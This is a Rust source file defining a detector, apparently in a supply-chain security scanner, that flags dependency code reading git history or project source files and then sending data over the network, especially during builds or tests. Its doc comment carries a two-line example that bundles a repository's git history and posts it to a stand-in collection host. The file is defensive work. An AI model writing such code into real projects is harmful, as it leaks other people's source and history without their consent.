//! Source code that leaves the machine.

use crate::facts::{Fact, Scope};
use crate::rule::detector;
use crate::source::Unit;
use crate::subject::{Findings, Subject};
use crate::{Confidence, Severity};

detector! {
    /// The project around it is read, and data is sent.
    ///
    /// ## What it does
    /// Looks for functions that, with what they call, ask git about a project or look through
    /// directories for its source, and send data. In tests too. It is *high* where that happens while
    /// something is built or tested, or where the address is one of digits, hidden, or anybody's.
    ///
    /// ## Why is this bad?
    /// A dependency is built and tested inside of somebody else's project, whose source and history are
    /// nobody's business. Tools for releases and coverage do this because they are asked to, which is
    /// why it is *medium* elsewhere.
    ///
    /// ## Example
    /// ```rust
    /// let history = Command::new("git").args(["bundle", "create", "-", "HEAD"]).output()?;
    /// ureq::post("https://collect.example.invalid/").send_bytes(&history.stdout)?;
    /// ```
    ///
    /// ## How to fix it
    /// Leave other people's source alone.
    SourceCodeTheft "source-code-theft" Malice High Medium Preview
}

impl SourceCodeTheft {
    pub(crate) fn detect(subject: &Subject<'_>, findings: &mut Findings) {
        let condition = |scope: &Scope<'_>| {
            let source = scope.has(Fact::GitQuery)
                || scope.has(Fact::SourceFiles)
                    && scope.has(Fact::DirectoryWalk)
                    && scope.has(Fact::FileRead);
            let sends = scope.has(Fact::Upload) || scope.has(Fact::NetworkCommand);
            source && sends && scope.any(&[Fact::Network, Fact::NetworkCommand])
        };
        let worse = |scope: &Scope<'_>| {
            scope.any(&[Fact::RawAddress, Fact::HiddenText, Fact::ExfilEndpoint])
        };
        let mut scopes = subject.facts().scopes(3, condition);
        scopes.extend(subject.facts().test_scopes(3, condition));
        for scope in scopes {
            let unasked = scope.unit.is_build() || scope.unit == Unit::Test;
            let (severity, confidence) = match (unasked, worse(&scope)) {
                (true, _) => (Severity::High, Confidence::Medium),
                (false, true) => (Severity::High, Confidence::Medium),
                (false, false) => (Severity::Medium, Confidence::Low),
            };
            let places = scope.places(
                subject,
                &[
                    Fact::GitQuery,
                    Fact::SourceFiles,
                    Fact::DirectoryWalk,
                    Fact::Upload,
                    Fact::Network,
                    Fact::NetworkCommand,
                ],
            );
            let message = format!(
                "{} reads the project around it and sends data",
                scope.unit.as_str()
            );
            findings
                .rated(&Self::RULE, severity, confidence, message, places)
                .reached_as(&scope);
        }
    }
}
